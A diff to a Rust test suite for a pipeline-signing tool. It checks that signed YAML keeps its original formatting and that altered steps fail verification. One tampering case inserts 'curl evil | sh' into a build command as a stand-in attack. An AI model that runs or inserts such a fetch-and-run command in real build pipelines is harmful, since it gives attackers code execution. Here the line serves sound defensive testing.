@@ -90,6 +90,14 @@ fn write(dir: &Path, name: &str, content: &[u8]) -> PathBuf {
 fn sign_fixture(agent: &Agent, slot: &str) -> (PathBuf, PathBuf) {
     let out = bk(agent, &["sign", "--repo", REPO, "--key", slot, FIXTURE], None);
     assert!(out.status.success(), "{}", text(&out));
+    // The signatures go into the text as written: comments, quoting and other steps stay.
+    let signed_text = String::from_utf8_lossy(&out.stdout);
+    let fixture = std::fs::read_to_string(FIXTURE).unwrap();
+    assert!(signed_text.starts_with(&fixture[..fixture.find("env:").unwrap()]), "{signed_text}");
+    for kept in ["  - wait\n", "          image: \"golang:1.22\"\n", "      - myorg/cache#v1.0.0: ~\n", "  - block: release?\n"] {
+        assert!(signed_text.contains(kept), "{kept:?} not kept:\n{signed_text}");
+    }
+    assert_eq!(signed_text.matches("signature:").count(), 3, "{signed_text}");
     let signed = write(agent.dir.path(), &format!("signed-{slot}.yml"), &out.stdout);
     let out = bk(agent, &["jwks", "--key", slot], None);
     assert!(out.status.success(), "{}", text(&out));
@@ -151,12 +159,12 @@ fn tampering_is_rejected_per_step() {
     let cases: Vec<(&str, String, &str)> = vec![
         ("command", good.replacen("      - make test\n", "      - make test && curl evil | sh\n", 1), "step 1 \"build\""),
         ("env", good.replacen("      RETRIES: 5\n", "      RETRIES: 6\n", 1), "step 1 \"build\""),
-        ("plugin config", good.replacen("image: golang:1.22", "image: golang:evil", 1), "step 1 \"build\""),
+        ("plugin config", good.replacen("golang:1.22", "golang:evil", 1), "step 1 \"build\""),
         ("matrix", good.replacen("          - darwin\n", "          - windows\n", 1), "step 3.1 \"unit\""),
         ("matrix adjustment", good.replacen("              skip: true\n", "              skip: false\n", 1), "step 3.2 \"multi\""),
         ("relabelled algorithm", good.replacen("algorithm: EdDSA", "algorithm: ES256", 1), "step 1 \"build\""),
         ("field removed", good.replacen("        - env::DEBUG\n", "", 1), "step 1 \"build\""),
-        ("no signature", good.replacen("    signature:\n      algorithm", "    old_signature:\n      algorithm", 1), "step 1 \"build\""),
+        ("no signature", good.replacen("signature:\n      algorithm", "old_signature:\n      algorithm", 1), "step 1 \"build\""),
     ];
     for (what, tampered, step) in cases {
         assert_ne!(tampered, good, "{what}: the edit did not apply");
